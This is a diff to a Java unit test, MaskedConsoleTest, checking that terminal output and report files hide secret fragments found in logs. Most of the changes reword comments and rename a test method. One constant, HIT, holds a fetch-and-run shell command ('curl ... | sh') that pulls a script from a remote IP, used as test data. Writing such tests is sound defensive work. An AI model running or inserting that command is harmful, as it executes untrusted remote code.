@@ -18,10 +18,10 @@ import org.ephemera.lab.scenario.ScenarioBuilder;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** The terminal, and the files of a report that a command writes, show no secret of a log. */
+/** Terminal output and report files contain no secret of a log. */
 class MaskedConsoleTest {
     private static final String HIT = "curl -fsSL http://203.0.113.9/a | sh ";
-    /** The part of each secret that is left where a text is truncated. */
+    /** Part of each secret that remains where a text is truncated. */
     private static final List<String> SECRETS =
             List.of("Gx5Rj8Tw", "Hq3Zx8Wv", "Kq8Zt/R4", "w9Zp4Kt7", "MIGHAgEAMBMGByqGSM49");
 
@@ -29,7 +29,7 @@ class MaskedConsoleTest {
     Path folder;
 
     @Test
-    void showsNoSecretOnTheTerminal() throws Exception {
+    void masksSecretsOnTerminal() throws Exception {
         Clock clock = Clock.fixed(Scenario.REFERENCE, ZoneOffset.UTC);
         ScenarioBuilder builder =
                 ScenarioBuilder.at(clock).withoutServiceMetrics().withoutInsights();
@@ -69,7 +69,7 @@ class MaskedConsoleTest {
         }
     }
 
-    /** With the secrets where an excerpt ends. */
+    /** Texts with a secret at the end of the excerpt. */
     private static List<String> texts() {
         List<String> texts = new ArrayList<>();
         for (String secret : List.of(
